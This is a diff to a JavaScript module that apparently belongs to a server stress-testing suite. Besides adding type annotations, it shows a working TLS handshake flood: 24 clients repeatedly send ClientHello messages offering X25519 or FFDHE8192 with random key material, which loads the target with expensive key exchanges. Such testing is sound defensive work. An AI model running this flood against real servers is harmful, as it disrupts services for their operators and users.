@@ -5,37 +5,64 @@ import { connect } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { count, crowd } from '../crowd.mjs';
 
+/** @import { Attack, Run } from '../attack.d.ts' */
+
 const CLIENTS = 24;
 /** Milliseconds between two connections of a client. */
 const PAUSE_MS = 50;
 
+/** @param {number} value */
 const uint16 = (value) => Buffer.from([value >> 8, value & 255]);
-/** Bytes after their length, in `size` bytes. */
+/**
+ * Bytes after their length, in `size` bytes.
+ *
+ * @param {number} size
+ * @param {...Uint8Array} parts
+ */
 const withLength = (size, ...parts) => {
   const bytes = Buffer.concat(parts);
   const head = Buffer.alloc(size);
   head.writeUIntBE(bytes.length, 0, size);
   return Buffer.concat([head, bytes]);
 };
+/** @param {...number} values */
 const list = (...values) => withLength(2, ...values.map(uint16));
+/**
+ * @param {number} type
+ * @param {Uint8Array} bytes
+ */
 const extension = (type, bytes) => Buffer.concat([uint16(type), withLength(2, bytes)]);
 
-const X25519 = 0x1d;
-const FFDHE8192 = 0x104;
-const keyOf = {
-  [X25519]: () =>
+/**
+ * Groups, with functions that make a public key.
+ *
+ * @typedef {{ id: number, makeKey: () => Buffer }} Group
+ */
+
+/** @type {Group} */
+const X25519 = {
+  id: 0x1d,
+  makeKey: () =>
     generateKeyPairSync('x25519').publicKey.export({ type: 'spki', format: 'der' }).subarray(-32),
+};
+/** @type {Group} */
+const FFDHE8192 = {
+  id: 0x104,
   // Any number between 1 and the prime.
-  [FFDHE8192]: () => Buffer.concat([Buffer.from([0x7f]), randomBytes(1023)]),
+  makeKey: () => Buffer.concat([Buffer.from([0x7f]), randomBytes(1023)]),
 };
 
-/** Returns a ClientHello of TLS 1.3 that offers one group (RFC 8446, section 4.1.2). */
+/**
+ * Returns a ClientHello of TLS 1.3 that offers one group (RFC 8446, section 4.1.2).
+ *
+ * @param {Group} group
+ */
 function clientHello(group) {
   const extensions = [
     extension(43, withLength(1, uint16(0x304))),
-    extension(10, list(group)),
+    extension(10, list(group.id)),
     extension(13, list(0x403, 0x804, 0x805, 0x806, 0x401)),
-    extension(51, withLength(2, uint16(group), withLength(2, keyOf[group]()))),
+    extension(51, withLength(2, uint16(group.id), withLength(2, group.makeKey()))),
   ];
   const hello = Buffer.concat([
     uint16(0x303),
@@ -49,6 +76,7 @@ function clientHello(group) {
   return Buffer.concat([Buffer.from([22, 3, 1]), withLength(2, message)]);
 }
 
+/** @type {(group: Group) => Run} */
 const flood =
   (group) =>
   ({ ports }, counts) => {
@@ -74,6 +102,7 @@ const flood =
     });
   };
 
+/** @type {readonly Attack[]} */
 export const attacks = [
   {
     id: 'tls-a',
